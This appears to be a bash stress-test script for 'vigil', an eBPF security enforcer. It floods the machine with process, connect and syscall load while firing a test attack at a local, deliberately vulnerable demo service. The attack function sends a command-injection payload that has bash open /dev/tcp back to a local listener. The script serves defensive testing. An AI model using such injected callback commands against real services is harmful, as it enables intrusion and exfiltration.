#!/usr/bin/env bash
# Event-storm campaign (issue 19 item 4): a fork/exec storm, a connect storm and a
# syscall-heavy load, all at once and far above what the ring buffer carries, while
# `vigil enforce` guards a test service of its own (a copy of vigil's demo service, learned
# first) and an attack on that service is tried every 2 s. Prints what happened and one
# summary line of key=value pairs (StormTests reads it).
#
#   sudo scripts/storm.sh [SECONDS] [RING_KIB]
#     SECONDS   storm length (default 60); RING_KIB: the kernel ring buffer (default 64 KiB,
#               small so that it overflows; the production default is 16384)
#   VIGIL=path/to/vigil (default .build/debug/vigil), STORM_LOOPS=N fork/exec loops (default 4)
#
# Only the test's own service is enforced (--workload exe:<its copy of vigil>).
set -euo pipefail
cd "$(dirname "$0")/.."
seconds=${1:-60}
ring=${2:-64}
vigil=${VIGIL:-.build/debug/vigil}
loops=${STORM_LOOPS:-4}
[[ $seconds =~ ^[0-9]+$ && $seconds -ge 6 ]] || { echo "usage: scripts/storm.sh [SECONDS>=6] [RING_KIB]" >&2; exit 2; }
[[ -x $vigil ]] || { echo "storm.sh: $vigil not found; run swift build first or set VIGIL" >&2; exit 2; }
[[ $(id -u) -eq 0 ]] || { echo "storm.sh: needs root (eBPF)" >&2; exit 2; }

work=$(mktemp -d /tmp/vigil-storm.XXXXXX)
chmod 700 "$work"
pids=()
cleanup() {
    for p in "${pids[@]}"; do kill -9 "$p" 2>/dev/null || true; done
    wait 2>/dev/null || true
    rm -rf "$work"
}
trap cleanup EXIT

svc=$work/svc
cp "$vigil" "$svc"
models=$work/models

# Every load below ends on its own after SECONDS (background jobs ignore SIGINT, so
# nothing here relies on a signal to stop them); cleanup kills what is left.

# A listener that counts connections (where the attack phones home).
cat >"$work/home.py" <<'EOF'
import socket, sys, threading
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 0)); s.listen(64)
print(s.getsockname()[1], flush=True)
n = 0
while True:
    c, _ = s.accept(); n += 1
    open(sys.argv[1], "w").write(str(n)); c.close()
EOF
python3 "$work/home.py" "$work/home.count" >"$work/home.port" &
pids+=($!)
for _ in $(seq 50); do [[ -s $work/home.port ]] && break; sleep 0.1; done
home=$(cat "$work/home.port")
echo 0 >"$work/home.count"

# The service, learned for 10 s of normal requests.
coproc SVC { exec "$svc" demo-service --vulnerable; }
pids+=($SVC_PID)
read -r port <&"${SVC[0]}"
normal() { bash -c "exec 3<>/dev/tcp/127.0.0.1/$port; echo 'GET hostname' >&3; head -c 100 <&3 >/dev/null" 2>/dev/null || true; }
attack() { timeout 6 bash -c "exec 3<>/dev/tcp/127.0.0.1/$port; echo \"RUN bash -c 'echo x >/dev/tcp/127.0.0.1/$home'\" >&3; timeout 5 head -c 100 <&3 >/dev/null" 2>/dev/null || true; }
"$vigil" learn --models "$models" --duration 10 --only "$svc" --only /bin/bash --only /usr/bin/head \
    --bucket 2 --window 2 --min-observed 4 --save-interval 3 >"$work/learn.out" 2>"$work/learn.err" &
learner=$!
sleep 1.5
end=$((SECONDS + 5))
while [[ $SECONDS -lt $end ]]; do normal; sleep 0.1; done
wait "$learner"
id=$(ls "$models" | sed -n 's/\.json$//p' | grep -F "$(basename "$work")" | head -1)
[[ -n $id ]] || { echo "storm.sh: learning saved no profile of the service" >&2; cat "$work/learn.err" >&2; exit 1; }
# Held at alert in user space: what stops each attack is the kernel's exec guard alone
# (the service stays up, so every attack is a real one).
printf 'enforce-learning: [%s]\ncaps:\n  %s: alert\n' "$id" "$id" >"$work/policy.yaml"

# Enforce on the service only, with a small ring buffer.
VIGIL_RING_BUFFER_KIB=$ring "$vigil" enforce --models "$models" --workload "exe:$svc" --policy "$work/policy.yaml" \
    --control-socket none --duration $((seconds + 4)) --output "file:$work/findings.jsonl" >/dev/null 2>"$work/agent.err" &
agent=$!
pids+=($agent)
for _ in $(seq 100); do grep -q "baselines loaded" "$work/agent.err" 2>/dev/null && break; sleep 0.1; done
sleep 0.5

# The storm.
stop_at=$((SECONDS + seconds))
for _ in $(seq "$loops"); do
    ( while [[ $SECONDS -lt $stop_at ]]; do for _ in $(seq 200); do /bin/true; done; done ) &
    pids+=($!)
done
python3 - "$seconds" >"$work/connects" <<'EOF' &
import socket, sys, time
end = time.time() + float(sys.argv[1]); n = 0
while time.time() < end:
    s = socket.socket()
    try: s.connect(("127.0.0.1", 1))
    except OSError: pass
    s.close(); n += 1
print(n)
EOF
pids+=($!)
python3 - "$seconds" >"$work/syscalls" <<'EOF' &
import os, sys, time
end = time.time() + float(sys.argv[1]); n = 0
while time.time() < end:
    for _ in range(1000): os.getppid()
    n += 1000
print(n)
EOF
pids+=($!)

attacks=0 rss_max=0 rss_first=0
while [[ $SECONDS -lt $stop_at ]]; do
    sleep 1
    rss=$(awk '/VmRSS/ {print $2}' /proc/$agent/status 2>/dev/null || echo 0)
    [[ $rss_first -eq 0 ]] && rss_first=$rss
    [[ $rss -gt $rss_max ]] && rss_max=$rss
    if [[ $((SECONDS % 2)) -eq 0 && $SECONDS -lt $((stop_at - 2)) ]] && kill -0 "$SVC_PID" 2>/dev/null; then
        attack; attacks=$((attacks + 1))
    fi
done
alive=0; kill -0 "$agent" 2>/dev/null && alive=1
svc_alive=0; kill -0 "$SVC_PID" 2>/dev/null && svc_alive=1
set +e
wait "$agent"; status=$?
set -e
sleep 0.5
reached=$(cat "$work/home.count")
connects=$(cat "$work/connects" 2>/dev/null || echo 0)
syscalls=$(cat "$work/syscalls" 2>/dev/null || echo 0)
dropped=$(sed -n 's/.* \([0-9]*\) dropped in the kernel.*/\1/p' "$work/agent.err" | tail -1)
records=$(sed -n 's/.*stopped: \([0-9]*\) records from the kernel.*/\1/p' "$work/agent.err" | tail -1)
losses=$(python3 - "$work/findings.jsonl" <<'EOF'
import json, sys, collections
c = collections.Counter()
for line in open(sys.argv[1]):
    e = json.loads(line); u = e.get("unmapped", {})
    if "loss_source" in u: c[u["loss_source"]] += u["lost_events"]
print(",".join(f"{k}={v}" for k, v in sorted(c.items())) or "none")
EOF
)
echo "agent stderr (last lines):"; tail -5 "$work/agent.err" | sed 's/^/  /'
echo "storm: ${seconds} s, ring ${ring} KiB, ${loops} fork/exec loops, $connects connects, ${syscalls:-0} getppid calls"
echo "agent: alive at the end $alive, exit $status, RSS first ${rss_first} KiB, max ${rss_max} KiB"
echo "kernel: ${records:-?} records, ${dropped:-?} dropped; loss events: $losses"
echo "attacks: $attacks tried on the live service, $reached reached home; service alive at the end: $svc_alive"
echo "STORM seconds=$seconds ring_kib=$ring alive=$alive exit=$status rss_first_kib=$rss_first rss_max_kib=$rss_max records=${records:-0} dropped=${dropped:-0} attacks=$attacks reached=$reached svc_alive=$svc_alive connects=$connects losses=$losses"
